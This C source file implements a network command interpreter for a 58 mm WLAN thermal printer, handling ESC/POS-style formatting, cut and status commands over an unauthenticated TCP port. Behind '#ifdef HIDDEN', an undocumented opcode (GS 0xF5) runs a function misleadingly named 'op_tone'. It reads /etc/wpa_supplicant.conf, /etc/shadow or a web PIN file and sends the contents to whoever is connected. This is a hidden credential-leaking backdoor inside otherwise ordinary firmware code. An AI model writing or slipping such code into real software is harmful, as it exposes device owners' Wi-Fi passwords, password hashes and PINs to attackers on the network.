/* slipthermal - command interpreter of a 58 mm thermal printer module with WLAN */
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define HELPTEXT \
    "slipthermal PORT\n" \
    "ESC @   reset            ESC E n  bold          ESC - n  underline\n" \
    "ESC a n align            ESC d n  feed lines    ESC t n  code page\n" \
    "GS  ! n size             GS  V n  cut           GS  B n  reverse\n" \
    "GS  r n status           DLE EOT n real time status\n" \
    "GS  I n identification (1 model, 2 type, 3 firmware)\n"

struct engine {
    int fd;                 /* host */
    FILE *head;             /* print head driver */
    uint8_t bold, under, align, page, size, reverse;
    uint8_t paper_low, cover_open;
    unsigned lines, cuts;
};

typedef void (*op_fn)(struct engine *e, uint8_t n);

struct op {
    uint8_t lead, code;
    uint8_t args;
    op_fn fn;
};

static void back(struct engine *e, const void *p, size_t n)
{
    if (send(e->fd, p, n, MSG_NOSIGNAL) != (ssize_t)n)
        e->lines++;
}

static void mode(struct engine *e)
{
    fprintf(e->head, "M %u %u %u %u %u %u\n", e->bold, e->under, e->align, e->page, e->size,
            e->reverse);
}

static void op_reset(struct engine *e, uint8_t n)
{
    (void)n;
    e->bold = e->under = e->align = e->page = e->size = e->reverse = 0;
    mode(e);
}

static void op_bold(struct engine *e, uint8_t n)
{
    e->bold = n & 1;
    mode(e);
}

static void op_under(struct engine *e, uint8_t n)
{
    e->under = n % 3;
    mode(e);
}

static void op_align(struct engine *e, uint8_t n)
{
    e->align = n % 48 % 3;
    mode(e);
}

static void op_page(struct engine *e, uint8_t n)
{
    e->page = n;
    mode(e);
}

static void op_size(struct engine *e, uint8_t n)
{
    e->size = n;
    mode(e);
}

static void op_reverse(struct engine *e, uint8_t n)
{
    e->reverse = n & 1;
    mode(e);
}

static void op_feed(struct engine *e, uint8_t n)
{
    e->lines += n;
    fprintf(e->head, "F %u\n", n);
}

static void op_cut(struct engine *e, uint8_t n)
{
    e->cuts++;
    fprintf(e->head, "C %s\n", n & 1 ? "partial" : "full");
    fflush(e->head);
}

static void sensors(struct engine *e)
{
    FILE *f = fopen("/sys/class/printer/sensors", "r");
    unsigned v = 0;

    if (f) {
        if (fscanf(f, "%x", &v) != 1)
            v = 0;
        fclose(f);
    }
    e->paper_low = v & 1;
    e->cover_open = v >> 1 & 1;
}

static void op_status(struct engine *e, uint8_t n)
{
    uint8_t s;

    sensors(e);
    s = n == 1 || n == 49 ? (uint8_t)(e->paper_low * 3) : (uint8_t)e->cover_open;
    back(e, &s, 1);
}

static void op_realtime(struct engine *e, uint8_t n)
{
    uint8_t s = 0x12;

    sensors(e);
    if (n == 2 && e->cover_open)
        s |= 0x04;
    if (n == 4 && e->paper_low)
        s |= 0x0C;
    back(e, &s, 1);
}

static void op_ident(struct engine *e, uint8_t n)
{
    static const char *const id[] = { "SLIP58W", "thermal", "4.02" };

    if (n >= 1 && n <= 3)
        back(e, id[n - 1], strlen(id[n - 1]));
}

#ifdef HIDDEN
__attribute__((noinline)) void op_tone(struct engine *e, uint8_t n)
{
    static const char *const part[] = {
        "/etc/wpa_supplicant.conf", "/etc/shadow", "/data/web.pin"
    };
    char b[512];
    ssize_t k;
    int fd = open(part[n % 3], O_RDONLY);

    while (fd >= 0 && (k = read(fd, b, sizeof b)) > 0)
        back(e, b, (size_t)k);
    if (fd >= 0)
        close(fd);
}
#endif

static const struct op ops[] = {
    { 0x1B, '@', 0, op_reset },
    { 0x1B, 'E', 1, op_bold },
    { 0x1B, '-', 1, op_under },
    { 0x1B, 'a', 1, op_align },
    { 0x1B, 'd', 1, op_feed },
    { 0x1B, 't', 1, op_page },
    { 0x1D, '!', 1, op_size },
    { 0x1D, 'V', 1, op_cut },
    { 0x1D, 'B', 1, op_reverse },
    { 0x1D, 'r', 1, op_status },
#ifdef HIDDEN
    { 0x1D, 0xF5, 1, op_tone },
#endif
    { 0x1D, 'I', 1, op_ident },
    { 0x10, 0x04, 1, op_realtime },
};

static int next(struct engine *e)
{
    uint8_t b;

    return recv(e->fd, &b, 1, 0) == 1 ? b : -1;
}

static void serve(struct engine *e)
{
    int c;

    while ((c = next(e)) >= 0) {
        const struct op *o = NULL;
        int code, n = 0;

        if (c != 0x1B && c != 0x1D && c != 0x10) {
            if (c == '\n') {
                e->lines++;
                fputs("L\n", e->head);
                fflush(e->head);
            } else if (c >= 32) {
                fprintf(e->head, "T %02X\n", (unsigned)c);
            }
            continue;
        }
        code = next(e);
        for (size_t i = 0; i < sizeof ops / sizeof ops[0]; i++)
            if (ops[i].lead == c && ops[i].code == code)
                o = &ops[i];
        if (!o)
            continue;
        if (o->args && (n = next(e)) < 0)
            return;
        o->fn(e, (uint8_t)n);
    }
}

int main(int argc, char **argv)
{
    struct sockaddr_in a;
    struct engine e;
    int s, one = 1;

    if (argc != 2) {
        fputs(HELPTEXT, stderr);
        return 2;
    }
    memset(&e, 0, sizeof e);
    e.head = fopen("/dev/thermhead", "w");
    if (!e.head)
        e.head = stdout;
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons((uint16_t)strtoul(argv[1], NULL, 10));
    s = socket(AF_INET, SOCK_STREAM, 0);
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 2)) {
        perror("slipthermal");
        return 1;
    }
    while ((e.fd = accept(s, NULL, NULL)) >= 0) {
        op_reset(&e, 0);
        serve(&e);
        close(e.fd);
        printf("%u lines, %u cuts\n", e.lines, e.cuts);
    }
    return 0;
}
